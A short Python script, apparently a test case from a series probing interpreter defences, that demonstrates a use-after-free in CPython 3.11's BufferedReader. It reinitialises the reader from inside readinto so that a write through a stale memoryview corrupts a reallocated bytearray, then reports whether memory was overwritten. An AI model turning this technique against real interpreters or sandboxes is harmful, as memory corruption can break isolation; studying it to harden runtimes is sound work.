# family: wall (memory: io.BufferedReader.__init__ run again from its raw stream's readinto frees the buffer the read writes into)   goal: memory   interpreter: /usr/bin/python3
# Of our own, the fourteenth round's family in io: 3.11's buffered read hands the raw
# stream's readinto a memoryview over its own buffer (no export the buffer knows
# of), and BufferedReader.__init__ may run again on a live object: it frees that
# buffer (and the lock the read holds) and allocates new ones. Raw.readinto
# re-initialises the reader with a larger buffer (allocated elsewhere), a bytearray
# of the old size takes the freed block, and the write through the view lands in
# that bytearray: another object's memory written. The wall: the buffered streams are initialised once (init_once).
import io
SIZE = 200
keep = []
class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, b):
        if not keep:
            try:
                br.__init__(self, 4096)        # frees the buffer b points into (a new one elsewhere)
            except Exception as e:
                print("reinit:", type(e).__name__, e)
            keep.append(bytearray(b"A" * (SIZE - 1)))   # takes the freed block back
        b[:8] = b"BBBBBBBB"
        return 8
br = io.BufferedReader(Raw(), SIZE)
br.read(8)
victim = keep[0] if keep else bytearray()
if victim[:8] == b"BBBBBBBB" or b"BBBBBBBB" in victim:
    print("MEMORY-OVERWRITTEN", bytes(victim[:16]))
else:
    print("victim unchanged", bytes(victim[:16]))
